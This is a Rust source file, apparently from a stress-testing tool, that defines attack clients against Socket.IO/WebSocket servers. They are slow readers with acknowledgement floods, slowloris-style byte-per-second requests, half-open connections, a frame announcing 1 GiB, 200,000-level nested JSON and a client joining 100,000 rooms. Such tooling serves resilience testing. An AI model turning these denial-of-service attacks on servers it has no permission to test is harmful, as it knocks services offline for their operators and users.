//! Clients that mean no good.
//!
//! Owns what each attack says and when. Must not know sockets or what the attack does to the server.
//! Start at [`Attacker`].

use std::str::FromStr;

use serde::{Deserialize, Serialize};
use wire::websocket::{Opcode, UpgradeRequest, client_key, masked_frame, write_upgrade_request};

use crate::message::Marker;
use crate::session::{Join, Next, Script, Sink, Took, WebSocket, event, mask, say};
use crate::target::Target;

/// What an attacker does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub enum Attack {
    /// Joins and never reads again while messages are published; every second one also asks for as many
    /// acknowledgements as it can.
    NeverReads,
    /// Sends the head of a request, one byte a second.
    BytePerSecond,
    /// A connection that says nothing, or half a request, or upgrades and never joins a namespace; in turn.
    HalfOpen,
    /// Announces a frame of 1 GiB and begins to send it.
    HugeFrame,
    /// Events of JSON nested 200,000 levels deep.
    DeepJson,
    /// One client that joins 100,000 rooms.
    ManyRooms,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 6] = [
        Self::NeverReads,
        Self::BytePerSecond,
        Self::HalfOpen,
        Self::HugeFrame,
        Self::DeepJson,
        Self::ManyRooms,
    ];

    /// The name on the command line.
    pub fn name(self) -> &'static str {
        match self {
            Self::NeverReads => "never-reads",
            Self::BytePerSecond => "byte-per-second",
            Self::HalfOpen => "half-open",
            Self::HugeFrame => "huge-frame",
            Self::DeepJson => "deep-json",
            Self::ManyRooms => "many-rooms",
        }
    }

    /// How many attackers there are unless the user says otherwise.
    pub(crate) fn attackers(self) -> u32 {
        match self {
            Self::NeverReads => 50,
            Self::BytePerSecond => 1000,
            Self::HalfOpen => 10_000,
            Self::HugeFrame => 50,
            Self::DeepJson => 10,
            Self::ManyRooms => 1,
        }
    }
}

impl FromStr for Attack {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        Self::ALL.into_iter().find(|attack| attack.name() == text).ok_or_else(|| {
            let names = Self::ALL.map(Self::name).join(", ");
            format!("known are {names}")
        })
    }
}

/// Levels of the deep JSON: 400 kB, below the usual limit of a message.
const LEVELS: usize = 200_000;

/// Rooms of the client that wants too many.
const ROOMS: u64 = 100_000;

/// Events written at one tick, when the ones before are on their way.
const EVENTS_PER_TICK: u64 = 1000;

/// Joins of the client with the many rooms that are not acknowledged yet.
const JOINS_IN_FLIGHT: u64 = 16;

/// Length that the huge frame announces.
const HUGE_BYTES: u64 = 1 << 30;

/// Bytes of it that are sent at one tick.
const HUGE_BYTES_PER_TICK: usize = 64 << 10;

/// Ticks for one second.
const TICKS_PER_SECOND: u64 = 20;

/// One attacker.
#[derive(Debug)]
pub(crate) struct Attacker {
    attack: Attack,
    client: WebSocket,
    join: Option<Join>,
    index: u32,
    ticks: u64,
    events: u64,
    /// Acknowledgements of them.
    acks: u64,
    /// The request that is sent byte by byte.
    head: Vec<u8>,
}

impl Attacker {
    /// Attacker `index`; `join` is the event that enters a room.
    pub(crate) fn new(attack: Attack, join: Option<Join>, index: u32) -> Self {
        Self {
            attack,
            client: WebSocket::new(index),
            join,
            index,
            ticks: 0,
            events: 0,
            acks: 0,
            head: Vec::new(),
        }
    }

    /// See [`crate::session::Session::connected`].
    pub(crate) fn connected(
        &mut self,
        script: &Script,
        target: &Target,
        out: &mut Vec<u8>,
        sink: &mut impl Sink,
    ) {
        let mut head = Vec::new();
        let path = "/socket.io/?EIO=4&transport=websocket";
        let key = client_key([7; 16]);
        let headers = &[("x-slow", "a header that takes very long to arrive, since nobody is in a hurry")];
        write_upgrade_request(
            &mut head,
            &UpgradeRequest { target: path, host: &target.host, key: &key, headers },
        );
        match self.attack {
            Attack::BytePerSecond => {
                self.head = head;
                sink.ready();
            }
            Attack::HalfOpen => {
                let share = [0, head.len() / 2, head.len()];
                let bytes = share.get(self.index as usize % share.len()).copied().unwrap_or(0);
                out.extend_from_slice(head.get(..bytes).unwrap_or_default());
                sink.ready();
            }
            _ => self.client.connected(script, target, out, sink),
        }
    }

    /// See [`crate::session::Session::received`].
    pub(crate) fn received(
        &mut self,
        script: &Script,
        buf: &mut [u8],
        out: &mut Vec<u8>,
        sink: &mut impl Sink,
    ) -> Result<Took, String> {
        if matches!(self.attack, Attack::BytePerSecond | Attack::HalfOpen) {
            return Ok(Took { consumed: buf.len(), next: Next::Continue });
        }
        let mut counting = Counting { sink, acks: &mut self.acks };
        let took = self.client.received(script, buf, out, &mut counting)?;
        if self.attack == Attack::ManyRooms && self.client.is_ready() {
            self.join_more(out);
        }
        let deaf = self.attack == Attack::NeverReads && self.client.is_ready();
        Ok(if deaf { Took { next: Next::Deaf, ..took } } else { took })
    }

    /// See [`crate::session::Session::tick`].
    pub(crate) fn tick(&mut self, out: &mut Vec<u8>) -> Next {
        if !self.client.is_ready() && !matches!(self.attack, Attack::BytePerSecond | Attack::HalfOpen) {
            return Next::Continue;
        }
        self.ticks += 1;
        match self.attack {
            Attack::NeverReads if self.index.is_multiple_of(2) => self.flood(out),
            Attack::NeverReads => {}
            Attack::BytePerSecond => self.drip(out),
            Attack::HalfOpen => {}
            Attack::HugeFrame => self.huge(out),
            Attack::DeepJson => self.deep(out),
            Attack::ManyRooms => self.join_more(out),
        }
        Next::Continue
    }

    /// Asks for very many acknowledgements.
    fn flood(&mut self, out: &mut Vec<u8>) {
        (0..EVENTS_PER_TICK).for_each(|_| self.join_room("flood", out));
    }

    /// Joins one room after the other, politely, so that only the number of rooms is an attack.
    fn join_more(&mut self, out: &mut Vec<u8>) {
        while self.events < ROOMS && self.events < self.acks + JOINS_IN_FLIGHT {
            let room = format!("many-{}", self.events);
            self.join_room(&room, out);
        }
    }

    /// The id 0 is that of the join in the handshake.
    fn join_room(&mut self, room: &str, out: &mut Vec<u8>) {
        self.events += 1;
        let name = self.join.as_ref().map_or("join", |join| &join.event);
        say(&event(name, room, Some(self.events)), self.index, out);
    }

    fn drip(&mut self, out: &mut Vec<u8>) {
        let second = (self.ticks / TICKS_PER_SECOND) as usize;
        if self.ticks.is_multiple_of(TICKS_PER_SECOND) {
            out.extend(self.head.get(second - 1));
        }
    }

    fn huge(&mut self, out: &mut Vec<u8>) {
        if self.ticks == 1 {
            // FIN and binary; masked, with a length of eight bytes.
            out.extend_from_slice(&[0x82, 0xff]);
            out.extend_from_slice(&HUGE_BYTES.to_be_bytes());
            out.extend_from_slice(&mask(self.index));
        }
        out.resize(out.len() + HUGE_BYTES_PER_TICK, 0);
    }

    fn deep(&mut self, out: &mut Vec<u8>) {
        let text = ["42[\"deep\",", &"[".repeat(LEVELS), &"]".repeat(LEVELS), "]"].concat();
        masked_frame(Opcode::Text, text.as_bytes(), mask(self.index), out);
    }
}

/// Counts acknowledgements on their way.
struct Counting<'a, S> {
    sink: &'a mut S,
    acks: &'a mut u64,
}

impl<S: Sink> Sink for Counting<'_, S> {
    fn ready(&mut self) {
        self.sink.ready();
    }
    fn message(&mut self, marker: Option<Marker>) {
        self.sink.message(marker);
    }
    fn ack(&mut self) {
        *self.acks += 1;
        self.sink.ack();
    }
}
